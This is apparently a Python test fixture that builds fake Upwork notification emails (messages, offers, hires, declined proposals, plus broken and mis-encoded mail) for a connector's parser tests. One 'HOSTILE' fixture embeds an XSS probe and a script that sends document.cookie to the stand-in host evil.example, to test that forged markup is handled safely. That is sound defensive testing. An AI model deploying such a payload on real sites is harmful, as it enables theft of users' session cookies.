"""Upwork notification emails as they arrive, built for tests: a client's message, a proposal
viewed, an invitation to interview, an offer, a hire, a declined proposal, a closed job; each
multipart HTML + plain text in quoted-printable, with a greeting, a headline linking the job,
the client's words under a byline, buttons, the conversation so far, and a footer. Plus
broken ones, and mail that is no notification (alerts, newsletters) from ``alert_mails``.

The layout follows Upwork's public descriptions (message mail sent from the conversation's
``room_…@upwork.com`` address and answerable by email; notices from donotreply@upwork.com);
the wording of each subject is one of the forms ``notification_kinds`` knows.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from html import escape
from typing import Literal
from urllib.parse import urlencode

from tests.connectors.email.alert_mails import SENT_AT, UPWORK

AGENCY = "Northwind Dev"
CLIENT = "Maya Lindqvist"
TITLE = "Build a Django REST API for a clinic booking app"
CIPHERTEXT = "~021890a4b5c6d7e8f9a0"
JOB_URL = f"https://www.upwork.com/jobs/{CIPHERTEXT}"  # as the feeds store Job.url
ROOM = "room_49983972355135147734666340071781"
FOOTER = (
    "You're receiving this email because you turned on email notifications for this activity.",
    "Manage your notification settings",
    "Unsubscribe",
    "\u00a9 2026 Upwork\u00ae Global Inc.",
)


@dataclass(frozen=True)
class Notification:
    """One notification mail: what it says, how it links the job, and what it is read as."""

    kind: str
    subject: str
    headline: str  # "{job}" marks the job's link
    button: str
    words: tuple[str, ...] = ()  # the client's paragraphs as typed: the item's body
    byline: str = ""  # above the words: "Maya Lindqvist · 10:42 AM", "Message from …:"
    details: tuple[str, ...] = ()  # between the words and the button (an offer's terms)
    after: tuple[str, ...] = ()  # after the button: replying by email, earlier messages
    sender: str = UPWORK
    link: Literal["job", "tracking", "apply"] = "job"
    message_id: str = ""  # "" makes one from the kind
    unsafe_html: str = ""  # raw markup in the HTML part only (a forged mail's script)
    title: str = TITLE
    ciphertext: str = CIPHERTEXT

    @property
    def job_url(self) -> str:
        """The job's link as the feeds store it."""
        return f"https://www.upwork.com/jobs/{self.ciphertext}"

    @property
    def href(self) -> str:
        """The job's link as the mail carries it."""
        if self.link == "tracking":
            target = f"{self.job_url}?source=notification"
            return "https://click.mail.upwork.com/ls/click?" + urlencode(
                {"upn": "u001.Qx7", "url": target}
            )
        if self.link == "apply":
            slug = "-".join(self.title.split()[:4])
            return f"https://www.upwork.com/freelance-jobs/apply/{slug}_{self.ciphertext}/"
        return f"{self.job_url}?referrer_url_path=%2Fnotifications"

    @property
    def headline_text(self) -> str:
        return self.headline.format(job=self.title)

    @property
    def body(self) -> str:
        """What the item's body should be: the client's words, else the headline."""
        return "\n\n".join(self.words) if self.words else self.headline_text


REPLY = Notification(
    "reply",
    f"New message from {CLIENT}",
    f"You have a new message from {CLIENT} about the job {{job}}.",
    "View message",
    words=(
        "Thanks for the detailed proposal - the phased plan is exactly what we need.",
        "Could you start on Monday? We'd want the booking endpoints first & the admin later.",
    ),
    byline=f"{CLIENT} \u00b7 10:42 AM",
    after=(
        f"You can reply to this email to respond to {CLIENT}.",
        "Earlier in this conversation",
        f"{AGENCY} \u00b7 Nov 19, 2026",
        "Hello Maya, we have built booking APIs for two clinic chains and would start with the"
        " data model.",
    ),
    sender=f'"{CLIENT}" <{ROOM}@upwork.com>',
    link="tracking",
)
VIEWED = Notification(
    "viewed",
    "Your proposal was viewed",
    f"{CLIENT} viewed your proposal for {{job}}.",
    "View proposal",
    after=("Clients who view a proposal often reply within a day.",),
)
INTERVIEWING = Notification(
    "interviewing",
    f"{CLIENT} invited you to an interview",
    f"{CLIENT} has invited you to interview for the job {{job}}.",
    "View invitation",
    words=("Could we do a 30-minute call on Thursday to walk through the data model?",),
    byline=CLIENT,
    link="apply",
)
OFFER = Notification(
    "offer",
    "You received an offer",
    f"{CLIENT} sent you an offer for {{job}}.",
    "Review offer",
    words=("Looking forward to working with you - let's start with milestone 1.",),
    byline=f"Message from {CLIENT}:",
    details=("Offer details", "Hourly rate: $45.00/hr", "Weekly limit: 30 hrs/week"),
)
HIRED = Notification(
    "hired",
    f"Contract started: {TITLE}",
    f"{CLIENT} hired you for {{job}}.",
    "Go to contract",
    link="tracking",
)
DECLINED = Notification(
    "declined",
    "Your proposal was declined",
    f"{CLIENT} declined your proposal for {{job}}.",
    "Find more jobs",
    words=("We went with a team in our time zone. Thank you for the thoughtful proposal.",),
    byline=f"Message from {CLIENT}:",
)
JOB_CLOSED = Notification(
    "job_closed",
    "Job was cancelled",
    f"{CLIENT} closed the job {{job}}.",
    "Find more jobs",
    details=("Any Connects you spent on your proposal have been returned.",),
)
EVERY_KIND = (REPLY, VIEWED, INTERVIEWING, OFFER, HIRED, DECLINED, JOB_CLOSED)

HOSTILE = replace(
    REPLY,
    words=("Can we talk? <script>alert('owned')</script> Budget is 5k &amp; up, \"fixed\".",),
    message_id="<hostile@mail.upwork.com>",
    unsafe_html="<script>document.location='https://evil.example/'+document.cookie</script>",
)
REPLIED_BY_EMAIL = replace(
    REPLY,
    words=("Yes, Monday works. Please send the milestones.",),
    details=(
        f"On Thu, Nov 19, 2026 at 9:00 AM {AGENCY} <{ROOM}@upwork.com> wrote:",
        "> Hello Maya, could we start on Monday?",
    ),
    message_id="<replied-by-email@mail.upwork.com>",
)
# Looks like a notice of a view, but names neither the job nor its link.
VIEWED_WITHOUT_JOB = replace(
    VIEWED,
    headline="A client viewed your proposal.",
    message_id="<viewed-no-job@mail.upwork.com>",
)


def notification_html(note: Notification) -> str:
    link = f'<a href="{escape(note.href)}" style="color:#14a800">{escape(note.title)}</a>'
    headline = escape(note.headline).replace(escape("{job}"), link)
    paragraphs = "".join(f"<p>{escape(words)}</p>" for words in note.words)
    byline = f"<tr><td><strong>{escape(note.byline)}</strong></td></tr>" if note.byline else ""
    details = "".join(f"<p>{escape(line)}</p>" for line in note.details)
    after = "".join(f"<p>{escape(line)}</p>" for line in note.after)
    footer = "".join(f"<p style='color:#5e6d55'>{escape(line)}</p>" for line in FOOTER)
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Upwork</title>
<style>p {{ margin: 8px 0 }}</style></head>
<body><table width="600" role="presentation">
<tr><td><img src="https://www.upwork.com/static/logo.png" alt="Upwork"></td></tr>
<tr><td><p>Hi {escape(AGENCY)},</p><p>{headline}</p></td></tr>
<tr><td><table class="message" role="presentation">{byline}
<tr><td>{paragraphs}{note.unsafe_html}</td></tr></table></td></tr>
<tr><td>{details}</td></tr>
<tr><td><a href="https://www.upwork.com/ab/messages/rooms/{ROOM}"
  style="background:#14a800;color:#fff;padding:10px 16px">{escape(note.button)}</a></td></tr>
<tr><td>{after}</td></tr>
<tr><td>{footer}</td></tr>
</table></body></html>"""


def notification_text(note: Notification) -> str:
    linked = [note.href] if "{job}" in note.headline else []
    lines = [f"Hi {AGENCY},", "", note.headline_text, *linked, ""]
    if note.byline:
        lines.append(note.byline)
    lines += [*"\n\n".join(note.words).splitlines(), ""]
    lines += [*note.details, ""] if note.details else []
    lines += [f"{note.button}: https://www.upwork.com/ab/messages/rooms/{ROOM}", ""]
    lines += [*note.after, "", "---", *FOOTER]
    return "\n".join(lines) + "\n"


def notification_mail(
    note: Notification,
    *,
    sent_at: datetime | None = None,
    date: str | None = None,
    parts: tuple[str, ...] = ("text", "html"),
    with_message_id: bool = True,
) -> bytes:
    """The mail of ``note``: multipart/alternative text + HTML, quoted-printable, UTF-8.
    ``date`` writes the Date header as given; otherwise it is ``sent_at`` (a few minutes
    after SENT_AT, one kind after another)."""
    message = EmailMessage()
    message["From"] = note.sender
    message["To"] = "sales@agency.test"
    message["Subject"] = note.subject
    minutes = [n.kind for n in EVERY_KIND].index(note.kind)
    message["Date"] = date or format_datetime(sent_at or SENT_AT + timedelta(minutes=minutes))
    if with_message_id:
        message["Message-ID"] = message_id(note)
    bodies = {"text": (notification_text(note), "plain"), "html": (notification_html(note), "html")}
    for number, part in enumerate(parts):
        content, subtype = bodies[part]
        add = message.set_content if number == 0 else message.add_alternative
        add(content, subtype=subtype, charset="utf-8", cte="quoted-printable")
    return message.as_bytes()


def message_id(note: Notification) -> str:
    return note.message_id or f"<{note.kind}-1@mail.upwork.com>"


def broken_notification() -> bytes:
    """A message notification whose MIME boundary never appears: it has no body to read."""
    return (
        f"From: {CLIENT} <{ROOM}@upwork.com>\r\n"
        f"Subject: New message from {CLIENT}\r\n"
        "Date: Fri, 20 Nov 2026 15:00:00 +0000\r\n"
        "Message-ID: <broken-notification@mail.upwork.com>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="lost-in-transit"\r\n\r\n'
        "The parts of this message were lost between two relays.\r\n"
    ).encode()


def mislabelled_notification() -> bytes:
    """A plain-text message notification that says UTF-8 but is Windows-1252."""
    note = replace(REPLY, words=("Danke! Können wir Montag starten? Grüße, Jürgen",))
    head = EmailMessage()
    head["From"] = f"J\u00fcrgen M\u00fcller <{ROOM}@upwork.com>"
    head["Subject"] = "New message from J\u00fcrgen M\u00fcller"
    head["Date"] = format_datetime(SENT_AT)
    head["Message-ID"] = "<mislabelled-notification@mail.upwork.com>"
    head["Content-Type"] = 'text/plain; charset="utf-8"'
    head["Content-Transfer-Encoding"] = "8bit"
    text = notification_text(note).replace(CLIENT, "J\u00fcrgen M\u00fcller")
    return bytes(head) + text.encode("cp1252")
